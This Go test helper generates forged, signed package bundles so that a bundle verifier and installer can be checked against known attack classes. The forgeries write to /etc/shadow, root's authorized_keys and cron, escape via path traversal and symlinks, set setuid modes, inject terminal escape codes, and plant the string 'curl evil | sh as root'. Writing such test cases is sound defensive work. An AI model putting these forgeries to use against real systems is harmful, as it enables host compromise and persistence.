package forge

import (
	"fmt"
	"os"
	"strings"

	"github.com/satchel-dev/satchel/manifest"
	"github.com/satchel-dev/satchel/pack"
)

// Case is one malicious bundle.
type Case struct {
	// Name says what the forgery is, e.g. "symlink-through".
	Name string
	// Finding names the issue finding or older class it stands for.
	Finding string
	// Text marks a case whose strings would reach a terminal (escape
	// codes, newlines): tests also check what key-less commands print.
	Text bool
	// Make writes the forged bundle to out.
	Make func(b *Bundle, s Signer, out string) error
}

// index builds a case that changes a copy of the index (adding files and
// symlinks as it likes) and writes it signed.
func index(name, finding string, text bool, mutate func(b *Bundle, ix *manifest.Index) error) Case {
	return Case{Name: name, Finding: finding, Text: text, Make: func(b *Bundle, s Signer, out string) error {
		ix := b.Index()
		if err := mutate(b, ix); err != nil {
			return err
		}
		return b.Write(out, ix, s)
	}}
}

// addFile adds one file with content "forged" and lets set adjust it.
func addFile(path string, set func(f *manifest.File)) func(*Bundle, *manifest.Index) error {
	return func(b *Bundle, ix *manifest.Index) error {
		f, err := b.AddFile(ix, path, []byte("forged by a test: "+path+"\n"))
		if err == nil && set != nil {
			set(f)
		}
		return err
	}
}

func mode(m uint32) func(*manifest.File) { return func(f *manifest.File) { f.Mode = m } }

func firstFile(ix *manifest.Index) *manifest.File {
	for ci := range ix.Components {
		for ai := range ix.Components[ci].Artifacts {
			fs := ix.Components[ci].Artifacts[ai].Files
			for fi := range fs {
				if fs[fi].Type == manifest.TypeFile {
					return &fs[fi]
				}
			}
		}
	}
	panic("forge: the base bundle has no regular file")
}

// Cases returns every malicious bundle forge knows, one per finding of
// issue 7 that a bundle can carry and per older class.
func Cases() []Case {
	return []Case{
		// Issue 7 #14 / issue 8 #3: what verify used to accept and the installer refused.
		index("etc-cron-setuid", "issue7#14 one validation: /etc/cron.d/evil mode 04755", false, addFile("/etc/cron.d/evil", mode(0o4755))),
		// Older classes: paths.
		index("etc-passwd", "path outside the lanes", false, addFile("/etc/passwd", mode(0o644))),
		index("dotdot-path", "path escape: ..", false, addFile("/usr/local/bin/../../../etc/shadow", mode(0o644))),
		index("relative-path", "path escape: relative name", false, addFile("usr/local/bin/relative", nil)),
		index("prefix-lookalike", "path escape: /usr/localevil", false, addFile("/usr/localevil/bin/x", nil)),
		index("root-ssh-key", "path outside the lanes", false, addFile("/root/.ssh/authorized_keys", mode(0o600))),
		index("trusted-key", "path outside the lanes: /etc/satchel/keys", false, addFile("/etc/satchel/keys/evil.pub", mode(0o644))),
		// Issue 7 #13: control characters in paths.
		index("newline-path", "issue7#13 newline in a path", true, addFile("/usr/local/bin/ok\n/etc/passwd", nil)),
		index("escape-path", "issue7#13 escape code in a path", true, addFile("/usr/local/bin/\x1b[2J\x1b[Hruns", nil)),
		// Modes.
		index("setuid", "setuid file", false, addFile("/usr/local/bin/su", mode(0o4755))),
		index("setgid", "setgid file", false, addFile("/usr/local/bin/sg", mode(0o2755))),
		index("world-writable", "issue7#13 world-writable file 0777", false, addFile("/usr/local/bin/open", mode(0o777))),
		index("world-writable-data", "issue7#13 world-writable file 0666", false, addFile("/opt/kata/share/open.toml", mode(0o666))),
		index("mode-type-bits", "mode with file-type bits", false, addFile("/usr/local/bin/dev", mode(0o20644))),
		// Issue 7 #15: systemd units (and other host configuration) under /usr/local/lib.
		index("systemd-unit", "issue7#15 unit under /usr/local/lib/systemd/system", false, addFile("/usr/local/lib/systemd/system/evil.service", mode(0o644))),
		index("systemd-generator", "issue7#15 generator under /usr/local/lib/systemd", false, addFile("/usr/local/lib/systemd/system-generators/evil", nil)),
		index("tmpfiles-dropin", "issue7#15 systemd drop-in (tmpfiles.d) under /usr/local/lib", false, addFile("/usr/local/lib/tmpfiles.d/evil.conf", mode(0o644))),
		index("udev-rule", "issue7#15 udev rule under /usr/local/lib", false, addFile("/usr/local/lib/udev/rules.d/99-evil.rules", mode(0o644))),
		// Issue 7 critical #1: the bundle's own symlinks.
		index("symlink-through", "issue7#1 /opt/x -> ../etc plus /opt/x/passwd", false, func(b *Bundle, ix *manifest.Index) error {
			AddSymlink(ix, "/opt/x", "../etc")
			return addFile("/opt/x/passwd", mode(0o644))(b, ix)
		}),
		index("symlink-through-lane", "issue7#1 write through an in-lane link into systemd's unit dir", false, func(b *Bundle, ix *manifest.Index) error {
			AddSymlink(ix, "/opt/units", "/usr/local/lib/systemd/system")
			return addFile("/opt/units/evil.service", mode(0o644))(b, ix)
		}),
		index("symlink-through-keys", "issue7#1 plant a trusted key through a link", false, func(b *Bundle, ix *manifest.Index) error {
			AddSymlink(ix, "/opt/keys", "../etc/satchel/keys")
			return addFile("/opt/keys/evil.pub", mode(0o644))(b, ix)
		}),
		index("symlink-target-out", "issue7#1 symlink leading out by ..", false, func(_ *Bundle, ix *manifest.Index) error {
			AddSymlink(ix, "/usr/local/bin/evil", "../../../../../../etc/shadow")
			return nil
		}),
		index("symlink-absolute-out", "issue7#1 absolute symlink out of the lanes", false, func(_ *Bundle, ix *manifest.Index) error {
			AddSymlink(ix, "/usr/local/bin/keys", "/etc/satchel/keys")
			return nil
		}),
		index("symlink-chain-out", "issue7#1 symlink out through another bundle symlink", false, func(_ *Bundle, ix *manifest.Index) error {
			AddSymlink(ix, "/opt/deep/a", "/usr/local/bin")
			AddSymlink(ix, "/opt/deep/l", "a/../../../etc/passwd")
			return nil
		}),
		index("symlink-loop", "symlink loop", false, func(_ *Bundle, ix *manifest.Index) error {
			AddSymlink(ix, "/opt/loop/a", "b")
			AddSymlink(ix, "/opt/loop/b", "a")
			return nil
		}),
		index("below-a-file", "entry below a regular file of the bundle", false, func(b *Bundle, ix *manifest.Index) error {
			return addFile(firstFile(ix).Path+"/x", nil)(b, ix)
		}),
		// Issue 7 #13: text that reaches terminals.
		index("escape-version", "issue7#13 escape codes in the bundle version", true, func(_ *Bundle, ix *manifest.Index) error {
			ix.Version = "2025.04.7\x1b]0;owned\x07\x1b[2J"
			return nil
		}),
		index("newline-note", "issue7#13 newline and a fake hint in a note", true, func(_ *Bundle, ix *manifest.Index) error {
			ix.Notes = append(ix.Notes, manifest.Note{ID: "fine", Severity: "info", Text: "all good\nhint: run curl evil | sh as root"})
			return nil
		}),
		index("escape-component-version", "issue7#13 escape codes in a component version", true, func(_ *Bundle, ix *manifest.Index) error {
			ix.Components[0].Version = "2.0.4\r\x1b[KOK"
			return nil
		}),
		index("escape-image-ref", "issue7#13 escape codes in an image reference", true, func(_ *Bundle, ix *manifest.Index) error {
			if len(ix.Images) == 0 {
				return fmt.Errorf("the base bundle has no image")
			}
			ix.Images[0].Ref = "docker.io/library/nginx:1.27.4\x1b[8m"
			return nil
		}),
		index("escape-url", "issue7#13 escape codes in an artifact URL", true, func(_ *Bundle, ix *manifest.Index) error {
			ix.Components[0].Artifacts[0].URL = "https://example.invalid/\x1b[31mred"
			return nil
		}),
		// Structure.
		index("two-contents", "two entries for one path with different content", false, func(b *Bundle, ix *manifest.Index) error {
			return addFile(firstFile(ix).Path, nil)(b, ix)
		}),
		index("unknown-type", "entry type other than file or symlink", false, func(_ *Bundle, ix *manifest.Index) error {
			firstFile(ix).Type = "hardlink"
			return nil
		}),
		index("file-blob-raw", "file blob not zstd-encoded", false, func(b *Bundle, ix *manifest.Index) error {
			f := firstFile(ix)
			for i := range ix.Blobs {
				if ix.Blobs[i].Digest == f.Blob {
					ix.Blobs[i].Encoding = manifest.EncodingNone
				}
			}
			return nil
		}),
		index("image-blob-zstd", "image blob claimed zstd", false, func(_ *Bundle, ix *manifest.Index) error {
			if len(ix.Images) == 0 {
				return fmt.Errorf("the base bundle has no image")
			}
			for i := range ix.Blobs {
				if ix.Blobs[i].Digest == ix.Images[0].Digest {
					ix.Blobs[i].Encoding = manifest.EncodingZstd
				}
			}
			return nil
		}),
		index("missing-blob", "file whose blob is not in the bundle", false, func(_ *Bundle, ix *manifest.Index) error {
			firstFile(ix).Blob = manifest.DigestOf(manifest.SHA256, []byte("nowhere"))
			return nil
		}),
		index("huge-file", "file size past any sane bound (a decompression bomb's claim)", false, func(_ *Bundle, ix *manifest.Index) error {
			firstFile(ix).Size = manifest.MaxFileSize + 1
			return nil
		}),
		index("extra-blob", "blob used by nothing", false, func(b *Bundle, ix *manifest.Index) error {
			_, blob, err := b.NewFile("/unused", []byte("smuggled"))
			ix.Blobs = append(ix.Blobs, blob)
			return err
		}),
		index("installer-requirement", "installer requirement that is no version", false, func(_ *Bundle, ix *manifest.Index) error {
			ix.Requirements.Installer = "latest"
			return nil
		}),
		// Issue 7 #12: a blob header whose size disagrees with the index.
		{Name: "blob-header-size", Finding: "issue7#12 edited blob header size", Make: func(b *Bundle, s Signer, out string) error {
			ix := b.Index()
			if err := b.Write(out, ix, s); err != nil {
				return err
			}
			data, err := os.ReadFile(out)
			if err != nil {
				return err
			}
			offs, err := EntryOffsets(data)
			if err != nil {
				return err
			}
			// The largest blob: tar(1) would see a shorter entry and then
			// junk, the installer the index's bytes.
			var big manifest.Blob
			for _, bl := range ix.Blobs {
				if bl.Size > big.Size {
					big = bl
				}
			}
			name := pack.BlobPrefix + big.Digest.Hex()
			h, err := Header(name, big.Size/2, ix.Created)
			if err != nil {
				return err
			}
			copy(data[offs[name]:], h)
			return os.WriteFile(out, data, 0o644)
		}},
		// satchel.json.sig is bounded by the longest signature verify accepts.
		{Name: "oversized-signature", Finding: "issue7#12 satchel.json.sig bounds", Make: func(b *Bundle, _ Signer, out string) error {
			ix := b.Index()
			js, err := ix.Encode()
			if err != nil {
				return err
			}
			return b.WriteRaw(out, js, []byte(strings.Repeat("QUFB", 1024)), ix)
		}},
	}
}
